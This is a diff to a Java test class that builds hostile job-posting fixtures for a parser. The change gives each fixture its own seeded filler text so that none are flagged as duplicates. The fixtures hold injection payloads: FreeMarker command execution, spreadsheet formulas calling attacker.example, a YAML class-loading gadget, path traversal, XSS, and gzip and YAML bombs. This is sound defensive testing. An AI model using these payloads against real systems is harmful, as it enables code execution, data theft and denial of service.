@@ -52,6 +52,10 @@ class HostilePostingsTest {
             - Terraform is a plus.
             """;
 
+    private static final List<String> WORDS = List.of("ledger", "harbour", "invoice", "cargo", "timetable",
+            "warehouse", "clinic", "season", "tariff", "parcel", "meter", "route", "contract", "voucher", "basket",
+            "refund", "schedule", "fleet", "branch", "policy", "claim", "ticket", "orchard", "bakery", "quarry");
+
     @TempDir
     static Path root;
 
@@ -210,37 +214,37 @@ class HostilePostingsTest {
         random.nextBytes(binary);
         Files.write(dir.resolve("binary.html"), binary);
         Files.write(dir.resolve("nul-filled.txt"), new byte[16 * 1024]);
-        Files.writeString(dir.resolve("nul-in-the-middle.txt"), "Backend Engineer\nCompany: Nullco\n\n" + BODY
-                + "\u0000\u0000" + BODY);
+        Files.writeString(dir.resolve("nul-in-the-middle.txt"), "Backend Engineer\nCompany: Nullco\n\n" + body("nul-in-the-middle.txt")
+                + "\u0000\u0000" + body("nul-in-the-middle.txt"));
         writeLarge(dir.resolve("huge-50mb.html"), 50L * 1024 * 1024);
         writeGzipBomb(dir.resolve("gzip-bomb.html"), 200L * 1024 * 1024);
         writeGzipBomb(dir.resolve("gzip-bomb.html.gz"), 50L * 1024 * 1024);
         Files.writeString(dir.resolve("nested-10000.html"), "<html><head><title>Backend Engineer at Deepco</title>"
-                + "</head><body>" + "<div>".repeat(10_000) + html(BODY) + "</div>".repeat(10_000) + "</body></html>");
+                + "</head><body>" + "<div>".repeat(10_000) + html(body("nested-10000.html")) + "</div>".repeat(10_000) + "</body></html>");
         Files.writeString(dir.resolve("nested-unclosed-10000.html"), "<html><body>" + "<span><b><i>".repeat(10_000)
                 + "Engineer at Openco</body>");
-        Files.write(dir.resolve("invalid-utf8.txt"), concat(("Backend Engineer\nCompany: Bytebrook\n\n" + BODY)
+        Files.write(dir.resolve("invalid-utf8.txt"), concat(("Backend Engineer\nCompany: Bytebrook\n\n" + body("invalid-utf8.txt"))
                 .getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC3, 0x28, (byte) 0xA0, (byte) 0xA1, '\n'}));
         Files.write(dir.resolve("lone-surrogate.md"), concat(("---\ntitle: Backend Engineer\ncompany: Surrogate Labs\n"
-                + "---\n" + BODY).getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}));
+                + "---\n" + body("lone-surrogate.md")).getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}));
         Files.write(dir.resolve("bom-vs-meta-charset.html"), concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
-                page("Backend Engineer – Café Größe", "Café Größe", BODY, "<meta charset=\"windows-1252\">")
+                page("Backend Engineer – Café Größe", "Café Größe", body("bom-vs-meta-charset.html"), "<meta charset=\"windows-1252\">")
                         .getBytes(StandardCharsets.UTF_8)));
         Files.write(dir.resolve("windows-1252-no-meta.html"), page("Backend Engineer – Crème Brûlée Systems",
-                "Crème Brûlée Systems", BODY, "").getBytes(Charset.forName("windows-1252")));
-        Files.write(dir.resolve("utf16-without-bom.txt"), ("Backend Engineer\nCompany: Widechar\n\n" + BODY)
+                "Crème Brûlée Systems", body("windows-1252-no-meta.html"), "").getBytes(Charset.forName("windows-1252")));
+        Files.write(dir.resolve("utf16-without-bom.txt"), ("Backend Engineer\nCompany: Widechar\n\n" + body("utf16-without-bom.txt"))
                 .getBytes(StandardCharsets.UTF_16LE));
         Files.writeString(dir.resolve("script-only.html"), "<html><head><script>" + "var x = 1;\n".repeat(5000)
                 + "</script></head><body><script>document.write('Engineer at Scriptco')</script></body></html>");
         Files.writeString(dir.resolve("style-only.html"), "<html><head><style>" + "p{color:red}\n".repeat(5000)
                 + "</style></head><body></body></html>");
         Files.writeString(dir.resolve("huge-attribute.html"), "<html><head><title>Backend Engineer at Attrco</title>"
-                + "</head><body><div data-x=\"" + "A".repeat(4 * 1024 * 1024) + "\">" + html(BODY) + "</div></body></html>");
+                + "</head><body><div data-x=\"" + "A".repeat(4 * 1024 * 1024) + "\">" + html(body("huge-attribute.html")) + "</div></body></html>");
         StringBuilder many = new StringBuilder("<div");
         for (int i = 0; i < 50_000; i++) {
             many.append(" a").append(i).append("=\"").append(i).append('"');
         }
-        Files.writeString(dir.resolve("many-attributes.html"), page("Backend Engineer – Manyattr", "Manyattr", BODY,
+        Files.writeString(dir.resolve("many-attributes.html"), page("Backend Engineer – Manyattr", "Manyattr", body("many-attributes.html"),
                 "") .replace("<body>", "<body>" + many + "></div>"));
         StringBuilder thousands = new StringBuilder("[");
         for (int i = 0; i < 10_000; i++) {
@@ -248,69 +252,82 @@ class HostilePostingsTest {
                     + "\"title\":\"Engineer ").append(i).append("\",\"hiringOrganization\":{\"name\":\"Listco\"},"
                     + "\"description\":\"<p>We build things.</p>\"}");
         }
-        Files.writeString(dir.resolve("jsonld-10000-entries.html"), page("Backend Engineer – Listco", "Listco", BODY,
+        Files.writeString(dir.resolve("jsonld-10000-entries.html"), page("Backend Engineer – Listco", "Listco", body("jsonld-10000-entries.html"),
                 "<script type=\"application/ld+json\">" + thousands + "]</script>"));
-        Files.writeString(dir.resolve("jsonld-broken.html"), page("Backend Engineer – Brokenld", "Brokenld", BODY,
+        Files.writeString(dir.resolve("jsonld-broken.html"), page("Backend Engineer – Brokenld", "Brokenld", body("jsonld-broken.html"),
                 "<script type=\"application/ld+json\">{\"@type\": \"JobPosting\", \"title\": \"Backend Eng</script>"));
-        Files.writeString(dir.resolve("jsonld-deep.html"), page("Backend Engineer – Deepld", "Deepld", BODY,
+        Files.writeString(dir.resolve("jsonld-deep.html"), page("Backend Engineer – Deepld", "Deepld", body("jsonld-deep.html"),
                 "<script type=\"application/ld+json\">" + "[".repeat(20_000) + "]".repeat(20_000) + "</script>"));
         Files.writeString(dir.resolve("freemarker-expression.md"), "---\ntitle: ${7*7} Engineer\ncompany: Dollar "
-                + "Brace Ltd\n---\n" + BODY + "\n- Knowing ${7*7} and ${.now} is a plus.\n");
+                + "Brace Ltd\n---\n" + body("freemarker-expression.md") + "\n- Knowing ${7*7} and ${.now} is a plus.\n");
         Files.writeString(dir.resolve("freemarker-directive.txt"), "Backend Engineer\nCompany: <#include \"/etc/passwd\">"
-                + "\n\n" + BODY + "\n<#assign x = \"freemarker.template.utility.Execute\"?new()>${x(\"id\")}\n");
+                + "\n\n" + body("freemarker-directive.txt") + "\n<#assign x = \"freemarker.template.utility.Execute\"?new()>${x(\"id\")}\n");
         Files.writeString(dir.resolve("freemarker-new.md"), "---\ntitle: Backend Engineer\ncompany: "
-                + "\"${'freemarker.template.utility.Execute'?new()('id')}\"\n---\n" + BODY);
+                + "\"${'freemarker.template.utility.Execute'?new()('id')}\"\n---\n" + body("freemarker-new.md"));
         Files.writeString(dir.resolve("formula-title.md"), "---\ntitle: \"=HYPERLINK(\\\"http://attacker.example\\\","
-                + "\\\"Click\\\")\"\ncompany: Formulaco\n---\n" + BODY);
-        Files.writeString(dir.resolve("formula-company.txt"), "Backend Engineer\nCompany: +cmd|' /C calc'!A0\n\n" + BODY);
+                + "\\\"Click\\\")\"\ncompany: Formulaco\n---\n" + body("formula-title.md"));
+        Files.writeString(dir.resolve("formula-company.txt"), "Backend Engineer\nCompany: +cmd|' /C calc'!A0\n\n" + body("formula-company.txt"));
         Files.writeString(dir.resolve("formula-at.txt"), "Backend Engineer\nCompany: @SUM(1+1)*cmd|' /C calc'!A0\n\n"
-                + BODY);
+                + body("formula-at.txt"));
         Files.writeString(dir.resolve("formula-minus.md"), "---\ntitle: \"-2+3 Engineer\"\ncompany: Minusco\n---\n"
-                + BODY);
+                + body("formula-minus.md"));
         Files.writeString(dir.resolve("company-path-traversal.md"), "---\ntitle: Backend Engineer\ncompany: "
-                + "\"../../../../etc/passwd\"\n---\n" + BODY);
-        Files.writeString(dir.resolve("company-reserved-names.md"), "---\ntitle: NUL\ncompany: CON\n---\n" + BODY);
+                + "\"../../../../etc/passwd\"\n---\n" + body("company-path-traversal.md"));
+        Files.writeString(dir.resolve("company-reserved-names.md"), "---\ntitle: NUL\ncompany: CON\n---\n" + body("company-reserved-names.md"));
         Files.writeString(dir.resolve("company-rtl-override.md"), "---\ntitle: Backend Engineer\ncompany: "
-                + "\"Acme\u202Egnp.exe\"\n---\n" + BODY);
+                + "\"Acme\u202Egnp.exe\"\n---\n" + body("company-rtl-override.md"));
         Files.writeString(dir.resolve("control-characters.md"), "---\ntitle: \"Backend\\x07 Engineer\\e[31m\"\n"
-                + "company: \"Bell\\x01co\"\n---\n" + BODY.replace("payment", "pay\u0008ment\u001B[2J"));
+                + "company: \"Bell\\x01co\"\n---\n" + body("control-characters.md").replace("payment", "pay\u0008ment\u001B[2J"));
         Files.writeString(dir.resolve("javascript-links.html"), page("Backend Engineer – Linkco", "Linkco",
-                BODY + "\n<a href=\"javascript:alert(document.cookie)\">Apply</a>",
+                body("javascript-links.html") + "\n<a href=\"javascript:alert(document.cookie)\">Apply</a>",
                 "<link rel=\"canonical\" href=\"javascript:alert(1)\"><meta property=\"og:url\" content=\"javascript:alert(2)\">"));
         Files.writeString(dir.resolve("file-links.html"), page("Backend Engineer – Fileco", "Fileco",
-                BODY + "\n<a href=\"file:///etc/passwd\">Apply</a>", "<script type=\"application/ld+json\">"
+                body("file-links.html") + "\n<a href=\"file:///etc/passwd\">Apply</a>", "<script type=\"application/ld+json\">"
                         + "{\"@type\":\"JobPosting\",\"title\":\"Backend Engineer\",\"url\":\"file:///etc/passwd\","
-                        + "\"hiringOrganization\":{\"name\":\"Fileco\"},\"description\":\"" + BODY.replace("\n", "<br>")
+                        + "\"hiringOrganization\":{\"name\":\"Fileco\"},\"description\":\"" + body("file-links.html").replace("\n", "<br>")
                         + "\"}</script>"));
         Files.writeString(dir.resolve("sign-in-wall.html"), "<html><head><title>Sign in</title></head><body><nav>Jobs"
                 + "</nav><h1>Sign in to see this job</h1><form><input name=\"email\"><input type=\"password\"></form>"
                 + "<footer>© Board</footer></body></html>");
         Files.writeString(dir.resolve("title-only.html"), "<html><head><title>Engineer at Shortco</title></head>"
                 + "<body><h1>Engineer</h1></body></html>");
-        Files.writeString(dir.resolve("truncated.html"), page("Backend Engineer – Cutco", "Cutco", BODY, "")
+        Files.writeString(dir.resolve("truncated.html"), page("Backend Engineer – Cutco", "Cutco", body("truncated.html"), "")
                 .substring(0, 500));
         Files.writeString(dir.resolve("search-results.html"), "<html><head><title>42 jobs found</title></head><body>"
                 + "<h1>Search results</h1><ul>" + "<li><a href=\"/j/1\">Engineer at A</a> · Remote</li>".repeat(40)
                 + "</ul></body></html>");
         Files.writeString(dir.resolve("very-long-title.md"), "---\ntitle: \"" + "Senior ".repeat(2000) + "Engineer\"\n"
-                + "company: Longco\n---\n" + BODY);
+                + "company: Longco\n---\n" + body("very-long-title.md"));
         Files.writeString(dir.resolve("emoji-and-cjk.md"), "---\ntitle: バックエンドエンジニア 🚀\ncompany: 株式会社サンプル\n---\n"
-                + BODY);
+                + body("emoji-and-cjk.md"));
         Files.writeString(dir.resolve("unsupported.pdf"), "%PDF-1.4\n% not really a pdf\n");
-        Files.writeString(dir.resolve("no-extension"), "Backend Engineer\nCompany: Noext\n\n" + BODY);
+        Files.writeString(dir.resolve("no-extension"), "Backend Engineer\nCompany: Noext\n\n" + body("no-extension"));
         Files.writeString(dir.resolve("list-payload.json"), "[{\"title\":\"Engineer\"},{\"title\":\"Designer\"}]");
         Files.writeString(dir.resolve("broken.json"), "{\"title\": \"Engineer\", ");
         Files.writeString(dir.resolve("yaml-bomb.md"), "---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\n"
                 + "c: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\n"
                 + "f: &f [*e,*e,*e,*e,*e,*e,*e,*e]\ng: [*f,*f,*f,*f,*f,*f,*f,*f]\ntitle: Engineer\ncompany: Bombco\n---\n"
-                + BODY);
+                + body("yaml-bomb.md"));
         Files.writeString(dir.resolve("front-matter-java-tag.md"), "---\ntitle: !!javax.script.ScriptEngineManager "
                 + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\ncompany: Tagco\n---\n"
-                + BODY);
+                + body("front-matter-java-tag.md"));
         Files.writeString(dir.resolve("html-in-txt.txt"), "<script>alert(1)</script> Engineer\nCompany: <img src=x "
-                + "onerror=alert(1)>\n\n" + BODY);
-        Files.writeString(dir.resolve("crlf-line-endings.txt"), ("Backend Engineer\nCompany: Crlfco\n\n" + BODY)
+                + "onerror=alert(1)>\n\n" + body("html-in-txt.txt"));
+        Files.writeString(dir.resolve("crlf-line-endings.txt"), ("Backend Engineer\nCompany: Crlfco\n\n" + body("crlf-line-endings.txt"))
                 .replace("\n", "\r\n"));
+    }
+
+    /**
+     * The common posting text plus a paragraph of its own, so that no two hostile postings are near-identical
+     * (the run would rightly record all but the first as duplicates).
+     */
+    private static String body(String name) {
+        Random random = new Random(name.hashCode());
+        StringBuilder own = new StringBuilder("\n");
+        for (int i = 0; i < 160; i++) {
+            own.append(WORDS.get(random.nextInt(WORDS.size()))).append(i % 12 == 11 ? ".\n" : " ");
+        }
+        return BODY + own;
     }
 
     private static String page(String title, String company, String body, String head) {
